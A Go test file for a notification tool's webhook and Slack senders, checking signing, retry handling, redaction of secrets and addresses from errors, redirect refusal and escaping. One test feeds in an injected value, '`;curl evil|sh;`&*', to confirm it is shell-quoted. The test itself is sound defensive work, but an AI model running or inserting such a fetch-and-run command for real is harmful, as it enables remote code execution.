package post_test

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/whencehq/whence/processors/notify"
	"github.com/whencehq/whence/processors/notify/post"
)

const noon = 1_773_316_800_000 // 2026-03-12 12:00 UTC

func opened() *notify.Message {
	return &notify.Message{
		Key: "k1", Action: notify.Opened, Target: "ops", Thread: "incident/inc-1", At: noon,
		Ranking: &notify.Ranking{
			Kind: "incident", ID: "inc-1", Service: "payments", Environment: "production", Title: "Cards <& wallets> are declined",
			Onset: noon - 60_000, Detected: noon, ComputedAt: noon + 20_000, Number: 3,
			Links: []notify.Link{
				{Kind: "deployment", ID: "v2", Service: "payments", Rank: 1, Probability: 0.9, Words: []string{"new instances fail"}},
				{Kind: "none", Rank: 2, Probability: 0.1},
			},
		},
	}
}

// serve is a target that answers as handle does.
func serve(t *testing.T, handle http.HandlerFunc) string {
	t.Helper()
	server := httptest.NewServer(handle)
	t.Cleanup(server.Close)
	return server.URL
}

func client() *http.Client { return post.NewClient(5 * time.Second) }

func failureOf(t *testing.T, err error) *notify.Failure {
	t.Helper()
	var f *notify.Failure
	if !errors.As(err, &f) {
		t.Fatalf("no failure: %v", err)
	}
	return f
}

func TestAWebhookIsSentASignedDocumentUnderAKey(t *testing.T) {
	var body []byte
	var header http.Header
	url := serve(t, func(_ http.ResponseWriter, r *http.Request) {
		body, _ = io.ReadAll(r.Body)
		header = r.Header
	})
	w := &post.Webhook{URL: url, Secret: []byte("hunter2"), Client: client()}
	if _, err := w.Send(t.Context(), opened()); err != nil {
		t.Fatal(err)
	}
	mac := hmac.New(sha256.New, []byte("hunter2"))
	fmt.Fprintf(mac, "%d.%s", noon/1000, body)
	if want := fmt.Sprintf("t=%d,v1=%s", noon/1000, hex.EncodeToString(mac.Sum(nil))); header.Get("Whence-Signature") != want {
		t.Errorf("signature %q, want %q", header.Get("Whence-Signature"), want)
	}
	if header.Get("Idempotency-Key") != "k1" || header.Get("Content-Type") != "application/json" {
		t.Errorf("header %v", header)
	}
	var document struct {
		Schema, ID, Action, Thread, Text string
		Effect                           struct{ Kind, ID, Onset string }
		Hypotheses                       []struct {
			Rank        int
			Kind        string `json:"cause_kind"`
			Probability float64
		}
		Commands []string
	}
	if err := json.Unmarshal(body, &document); err != nil {
		t.Fatal(err)
	}
	d := document
	if d.Schema != "whence.notice/1" || d.ID != "k1" || d.Action != "opened" || d.Thread != "incident/inc-1" ||
		d.Effect.ID != "inc-1" || d.Effect.Onset != "2026-03-12T11:59:00.000Z" || len(d.Hypotheses) != 2 ||
		d.Hypotheses[0].Kind != "deployment" || d.Hypotheses[0].Probability != 0.9 ||
		d.Commands[1] != "whence confirm inc-1 deployment:v2" || !strings.HasPrefix(d.Text, "Cards <& wallets> are declined") {
		t.Errorf("document %s", body)
	}
}

func TestASummaryNamesItsEffectsWithTheirLeaders(t *testing.T) {
	var body []byte
	url := serve(t, func(_ http.ResponseWriter, r *http.Request) { body, _ = io.ReadAll(r.Body) })
	m := &notify.Message{Key: "k", Action: notify.Summary, Effects: []notify.Ranking{*opened().Ranking, *opened().Ranking}, At: noon}
	if _, err := (&post.Webhook{URL: url, Client: client()}).Send(t.Context(), m); err != nil {
		t.Fatal(err)
	}
	if text := string(body); strings.Count(text, `"leader":{"cause_kind":"deployment"`) != 2 || !strings.Contains(text, `"commands":[]`) {
		t.Errorf("document %s", text)
	}
}

func TestAStatusSaysWhoIsAtFaultAndWhenToComeAgain(t *testing.T) {
	for _, c := range []struct {
		status          int
		header          map[string]string
		after           time.Duration
		message, unsure bool
	}{
		{status: 429, header: map[string]string{"Retry-After": "7"}, after: 7 * time.Second},
		{status: 503, header: map[string]string{"Retry-After": "Thu, 12 Mar 2026 12:02:00 GMT", "Date": "Thu, 12 Mar 2026 12:00:30 GMT"}, after: 90 * time.Second},
		{status: 429, header: map[string]string{"Retry-After": "1e30"}, after: time.Hour},
		{status: 429, header: map[string]string{"Retry-After": "-1"}},
		{status: 429, header: map[string]string{"Retry-After": "NaN"}},
		{status: 429, header: map[string]string{"Retry-After": "soon"}},
		{status: 400, message: true},
		{status: 413, message: true},
		{status: 422, message: true},
		{status: 401}, {status: 404}, {status: 500},
		{status: 502, unsure: true}, {status: 504, unsure: true},
	} {
		url := serve(t, func(w http.ResponseWriter, _ *http.Request) {
			for name, value := range c.header {
				w.Header().Set(name, value)
			}
			w.WriteHeader(c.status)
			fmt.Fprint(w, "no\nmore")
		})
		_, err := (&post.Webhook{URL: url, Client: client()}).Send(t.Context(), opened())
		f := failureOf(t, err)
		if f.After != c.after || f.Message != c.message || f.Unsure != c.unsure || !strings.HasSuffix(f.Error(), ": no") {
			t.Errorf("%d %v: %+v", c.status, c.header, f)
		}
	}
}

func TestNoErrorHasAnAddressInIt(t *testing.T) {
	cut := serve(t, func(w http.ResponseWriter, _ *http.Request) {
		conn, _, _ := w.(http.Hijacker).Hijack()
		_ = conn.Close()
	})
	for address, unsure := range map[string]bool{
		"http://127.0.0.1:1/services/SECRET": false, // nobody was reached
		cut + "/services/SECRET":             true,
		"http://[SECRET":                     false,
		"ftp://127.0.0.1/SECRET":             true,
	} {
		_, err := (&post.Incoming{URL: address, Client: client()}).Send(t.Context(), opened())
		if f := failureOf(t, err); strings.Contains(f.Error(), "SECRET") || f.Unsure != unsure {
			t.Errorf("%s: %+v", address, f)
		}
	}
}

func TestNoErrorHasAnAddressInItThoughTheTargetRepeatsIt(t *testing.T) {
	for what, says := range map[string]http.HandlerFunc{
		"a page": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusNotFound)
			fmt.Fprintf(w, `{"message":"Route POST:%s not found"}`, r.URL.Path)
		},
		"the query, for HTML": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprint(w, "<p>"+strings.ReplaceAll(html.EscapeString(r.RequestURI), "/", "&#x2F;"))
		},
		"in JSON": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusNotFound)
			fmt.Fprint(w, strings.ReplaceAll(r.URL.Path, "/", `\/`))
		},
		"in capitals": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprint(w, strings.ToUpper(r.RequestURI))
		},
		"cut off": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusNotFound)
			fmt.Fprint(w, r.URL.Path[:len(r.URL.Path)-5])
		},
		"where a log line ends": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusNotFound)
			fmt.Fprint(w, strings.Repeat("x", 255), r.URL.Path)
		},
		"the user": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			user, password, _ := r.BasicAuth()
			fmt.Fprintf(w, "%s:%s", user, password)
		},
		"the status": func(w http.ResponseWriter, r *http.Request) {
			conn, _, _ := w.(http.Hijacker).Hijack()
			fmt.Fprintf(conn, "HTTP/1.1 404 no %s\r\nContent-Length: 0\r\n\r\n", r.URL.Path)
			_ = conn.Close()
		},
		"no HTTP": func(w http.ResponseWriter, r *http.Request) {
			conn, _, _ := w.(http.Hijacker).Hijack()
			fmt.Fprintf(conn, "%s\r\n\r\n", r.URL.Path)
			_ = conn.Close()
		},
	} {
		address := strings.Replace(serve(t, says), "http://", "http://secretuser:secretword@", 1)
		_, err := (&post.Incoming{URL: address + "/services/T000%20/B000/SECRET-SECRET?token=secrettoken", Client: client()}).Send(t.Context(), opened())
		if text := strings.ToLower(failureOf(t, err).Error()); strings.Contains(text, "secr") || strings.Contains(text, "000") || !strings.HasSuffix(text, "…") {
			t.Errorf("%s: %s", what, text)
		}
	}
}

func TestNoErrorHasATokenInItThoughTheTargetRepeatsIt(t *testing.T) {
	for _, status := range []int{http.StatusOK, http.StatusForbidden} {
		url := serve(t, func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(status)
			answer(w, map[string]any{"ok": false, "error": "nobody knows " + r.Header.Get("Authorization")})
		})
		_, err := (&post.Chat{API: url, Token: "xoxb-SECRET", Channel: "C1", Client: client()}).Send(t.Context(), opened())
		if text := failureOf(t, err).Error(); strings.Contains(text, "xoxb") || !strings.HasSuffix(text, "nobody knows Bearer …") {
			t.Errorf("%d: %s", status, text)
		}
	}
}

func TestARedirectIsNotFollowed(t *testing.T) {
	elsewhere := serve(t, func(http.ResponseWriter, *http.Request) { t.Error("the secret went elsewhere") })
	url := serve(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, elsewhere, http.StatusTemporaryRedirect)
	})
	chat := &post.Chat{API: url, Token: "xoxb-1", Channel: "C1", Client: client()}
	if _, err := chat.Send(t.Context(), opened()); err == nil {
		t.Error("taken")
	}
}

func TestAnIncomingWebhookOfSlackIsSentEscapedText(t *testing.T) {
	var body struct{ Text string }
	url := serve(t, func(_ http.ResponseWriter, r *http.Request) { _ = json.NewDecoder(r.Body).Decode(&body) })
	if _, err := (&post.Incoming{URL: url, Client: client()}).Send(t.Context(), opened()); err != nil {
		t.Fatal(err)
	}
	if want := "*Cards &lt;&amp; wallets&gt; are declined* (incident inc-1, payments, production)\n"; !strings.HasPrefix(body.Text, want) {
		t.Errorf("text %q", body.Text)
	}
	if !strings.Contains(body.Text, "`whence confirm inc-1 deployment:v2`") {
		t.Errorf("text %q", body.Text)
	}
	odd := opened()
	odd.Ranking.ID = "`;curl evil|sh;`&*"
	if _, err := (&post.Incoming{URL: url, Client: client()}).Send(t.Context(), odd); err != nil {
		t.Fatal(err)
	}
	if want := "`whence why $'\\140;curl evil|sh;\\140&amp;*'` tells the rest"; !strings.Contains(body.Text, want) {
		t.Errorf("text %q", body.Text)
	}
	long := opened()
	long.Ranking.Title = strings.Repeat("€", 10_000)
	if _, err := (&post.Incoming{URL: url, Client: client()}).Send(t.Context(), long); err != nil {
		t.Fatal(err)
	}
	if n := len([]rune(body.Text)); n > 4000 {
		t.Errorf("%d characters: Slack would make two messages of it", n)
	}
}
